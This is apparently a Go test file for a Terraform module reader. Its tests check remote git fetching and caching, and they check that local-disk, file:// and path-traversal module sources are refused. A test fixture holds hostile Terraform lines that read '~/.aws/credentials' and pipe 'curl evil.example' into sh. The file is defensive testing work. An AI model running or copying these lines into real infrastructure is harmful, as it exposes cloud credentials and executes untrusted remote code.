package engine

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/csocbot/csocbot/internal/gittest"
	"github.com/csocbot/csocbot/planner/terragrunt"
)

// serveGit serves a new repository holding files, committed and tagged v1.
func serveGit(t *testing.T, files map[string]string) *gittest.Served {
	t.Helper()
	repo := gittest.New(t, "")
	for name, content := range files {
		repo.Write(name, content)
	}
	repo.CommitAll("modules")
	repo.Git("tag", "v1")
	return gittest.Serve(t, repo)
}

// untrustedModule declares code that runs programs, and a provider from
// outside the usual namespaces, and calls a local module of its package.
var untrustedModule = map[string]string{
	"modules/evil/main.tf": `
terraform {
  required_providers {
    evil = { source = "evil-corp/evil", version = "1.0.0" }
  }
}
data "external" "token" {
  program = ["sh", "-c", "cat ~/.aws/credentials"]
}
resource "null_resource" "run" {
  provisioner "local-exec" {
    command = "curl evil.example | sh"
  }
}
module "tags" {
  source = "../tags"
}
`,
	"modules/tags/main.tf": `output "tags" { value = {} }` + "\n",
}

func fetchingReader(t *testing.T) (*ModuleReader, string) {
	dir := t.TempDir()
	return &ModuleReader{sources: newSourceCache(dir)}, dir
}

func TestReadModulesFetchesRemoteCode(t *testing.T) {
	remote := serveGit(t, untrustedModule)
	src := "git::" + remote.URL + "//modules/evil?ref=v1"
	files := fstest.MapFS{
		"terraform/app/main.tf": {Data: []byte(fmt.Sprintf(`
module "remote" {
  source = %q
}
module "eks" {
  source  = "terraform-aws-modules/eks/aws"
  version = "20.8.4"
}
module "zip" {
  source = "https://example.com/module.zip"
}
`, src))},
	}
	r, _ := fetchingReader(t)
	mods, err := r.Read(context.Background(), files, "terraform/app", nil)
	if err != nil {
		t.Fatal(err)
	}
	if mods.Unreadable != nil {
		t.Fatal(mods.Unreadable)
	}
	var got []string
	for _, m := range mods.List {
		got = append(got, fmt.Sprintf("%s %s %s@%s %s remote=%v read=%v", m.Address, m.Kind, m.Package, m.Version, m.Dir, m.Remote, m.Decl != nil))
	}
	want := []string{
		" local @ terraform/app remote=false read=true",
		"module.remote git git::" + remote.URL + "@v1 modules/evil remote=true read=true",
		"module.remote.module.tags local git::" + remote.URL + "@v1 modules/tags remote=true read=true",
		"module.eks registry terraform-aws-modules/eks/aws@20.8.4  remote=true read=false",
		"module.zip other https://example.com/module.zip@  remote=true read=false",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("modules\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	evil := mods.List[1]
	if len(evil.Decl.DataSources) != 1 || len(evil.Decl.Provisioners) != 1 || evil.Requirements.Providers[0].Source != "evil-corp/evil" {
		t.Errorf("remote module read as %+v, %+v", evil.Decl, evil.Requirements)
	}
	// The same source again comes from the clone cache.
	before := remote.Fetches.Load()
	if _, err := r.Read(context.Background(), files, "terraform/app", nil); err != nil {
		t.Fatal(err)
	}
	if after := remote.Fetches.Load(); after != before {
		t.Errorf("a tag was fetched again (%d fetches, then %d)", before, after)
	}
}

func TestReadModulesRemoteTerraformSource(t *testing.T) {
	remote := serveGit(t, untrustedModule)
	cfg := &terragrunt.Config{}
	cfg.Terraform.Source = "git::" + remote.URL + "//modules/evil?ref=v1"
	cfg.Terraform.Module = terragrunt.ModuleSource{Kind: terragrunt.GitSource, URL: "git::" + remote.URL, Subdir: "modules/evil", Ref: "v1"}
	// The unit's own files run inside the remote module: their local
	// calls resolve there.
	files := fstest.MapFS{
		"live/app/terragrunt.hcl": {Data: []byte("# evaluated into cfg\n")},
		"live/app/extra.tf":       {Data: []byte("module \"more\" {\n  source = \"../tags\"\n}\n")},
	}
	r, _ := fetchingReader(t)
	mods, err := r.Read(context.Background(), files, "live/app", cfg)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, m := range mods.List {
		got = append(got, fmt.Sprintf("%q %s remote=%v read=%v", m.Address, m.Dir, m.Remote, m.Decl != nil))
	}
	want := []string{
		`"" modules/evil remote=true read=true`,
		`"module.tags" modules/tags remote=true read=true`,
		`"" live/app remote=false read=true`,
		`"module.more" modules/tags remote=true read=true`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("modules\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestReadModulesRefusesSourcesOnTheServer(t *testing.T) {
	// A repository on the server's disk that a pull request must not read.
	secret := gittest.New(t, "")
	secret.Write("main.tf", `data "external" "x" { program = ["true"] }`+"\n")
	secret.CommitAll("secret")
	secret.Git("tag", "v1")
	for _, src := range []string{
		"git::file://" + secret.Dir + "?ref=v1",
		"file://" + secret.Dir,
		secret.Dir,
		"git::" + secret.Dir + "?ref=v1",
		"../../../../etc",
		"./ok/../../../../outside",
	} {
		t.Run(src, func(t *testing.T) {
			files := fstest.MapFS{"terraform/app/main.tf": {Data: []byte(fmt.Sprintf("module \"x\" {\n  source = %q\n}\n", src))}}
			r, cache := fetchingReader(t)
			_, err := r.Read(context.Background(), files, "terraform/app", nil)
			if !errors.Is(err, ErrUnsafeSource) {
				t.Fatalf("error %v, want ErrUnsafeSource", err)
			}
			if !strings.Contains(err.Error(), "terraform/app/main.tf:1: module \"x\"") {
				t.Errorf("error %q does not name the unit's file and module", err)
			}
			if entries, _ := os.ReadDir(cache); len(entries) != 0 {
				t.Errorf("something was cloned: %v", entries)
			}
		})
	}
}

func TestReadModulesRefusesLeavingARemoteSource(t *testing.T) {
	remote := serveGit(t, map[string]string{"modules/a/main.tf": "module \"up\" {\n  source = \"../../../x\"\n}\n"})
	files := fstest.MapFS{"main.tf": {Data: []byte(fmt.Sprintf("module \"a\" {\n  source = %q\n}\n", "git::"+remote.URL+"//modules/a?ref=v1"))}}
	r, _ := fetchingReader(t)
	_, err := r.Read(context.Background(), files, ".", nil)
	if !errors.Is(err, ErrUnsafeSource) || !strings.Contains(err.Error(), "leaves the module source git::"+remote.URL) {
		t.Fatalf("error %v, want one saying the source leaves its package", err)
	}
}

func TestReadModulesRefusesAFileTerraformSource(t *testing.T) {
	secret := gittest.New(t, "")
	secret.Write("main.tf", "# secret\n")
	secret.CommitAll("secret")
	cfg := &terragrunt.Config{}
	cfg.Terraform.Source = "git::file://" + secret.Dir + "?ref=main"
	cfg.Terraform.Module = terragrunt.ModuleSource{Kind: terragrunt.GitSource, URL: "git::file://" + secret.Dir, Ref: "main"}
	r, _ := fetchingReader(t)
	if _, err := r.Read(context.Background(), fstest.MapFS{}, "live/app", cfg); !errors.Is(err, ErrUnsafeSource) {
		t.Fatalf("error %v, want ErrUnsafeSource", err)
	}
}

func TestReadModulesBoundsNesting(t *testing.T) {
	files := fstest.MapFS{}
	for i := 0; i <= maxModuleDepth+1; i++ {
		files[fmt.Sprintf("m%d/main.tf", i)] = &fstest.MapFile{Data: []byte(fmt.Sprintf("module \"next\" {\n  source = \"../m%d\"\n}\n", i+1))}
	}
	_, err := NewLocalModuleReader().Read(context.Background(), files, "m0", nil)
	if err == nil || !strings.Contains(err.Error(), "nested more than") {
		t.Fatalf("error %v, want one about nesting", err)
	}
}

func TestSourceKind(t *testing.T) {
	for src, want := range map[string]ModuleKind{
		"./vpc":                                   LocalModule,
		"../vpc":                                  LocalModule,
		"git::https://example.com/m.git?ref=v1":   GitModule,
		"github.com/org/repo//vpc?ref=v1":         GitModule,
		"git@github.com:org/repo.git":             GitModule,
		"hashicorp/consul/aws":                    RegistryModule,
		"app.terraform.io/org/vpc/aws":            RegistryModule,
		"tfr://registry.terraform.io/org/vpc/aws": RegistryModule,
		"s3::https://s3.amazonaws.com/b/m.zip":    OtherModule,
		"https://example.com/m.zip":               OtherModule,
		"/srv/modules/vpc":                        "",
		"file:///srv/modules":                     "",
		"git::file:///srv/repo":                   "",
		`C:\modules\vpc`:                          "",
	} {
		if got := sourceKind(src); got != want {
			t.Errorf("sourceKind(%q) = %q, want %q", src, got, want)
		}
	}
}

func TestReadModulesGeneratedFiles(t *testing.T) {
	files := fstest.MapFS{"live/app/main.tf": {Data: []byte("resource \"terraform_data\" \"a\" {}\n")}}
	cfg := &terragrunt.Config{Generate: []terragrunt.Generate{
		{Name: "hooks", Path: "hooks.tf", Contents: "data \"external\" \"x\" {\n  program = [\"id\"]\n}\n"},
		{Name: "off", Path: "off.tf", Contents: "data \"external\" \"off\" {}\n", Disable: true},
		{Name: "notes", Path: "notes.txt", Contents: "not terraform"},
	}}
	mods, err := NewLocalModuleReader().Read(context.Background(), files, "live/app", cfg)
	if err != nil {
		t.Fatal(err)
	}
	last := mods.List[len(mods.List)-1]
	if len(mods.List) != 2 || last.Kind != GeneratedModule || len(last.Decl.DataSources) != 1 || last.Decl.DataSources[0].File != "live/app/hooks.tf" {
		t.Fatalf("modules = %+v", mods.List)
	}

	cfg.Generate = append(cfg.Generate, terragrunt.Generate{Name: "mod", Path: "mod.tf", Contents: "module \"m\" {\n  source = \"git::file:///srv/secret\"\n}\n"})
	if _, err := NewLocalModuleReader().Read(context.Background(), files, "live/app", cfg); !errors.Is(err, ErrUnsafeSource) || !strings.Contains(err.Error(), "live/app/mod.tf:1") {
		t.Fatalf("error %v, want a refused source in the generated file", err)
	}
}
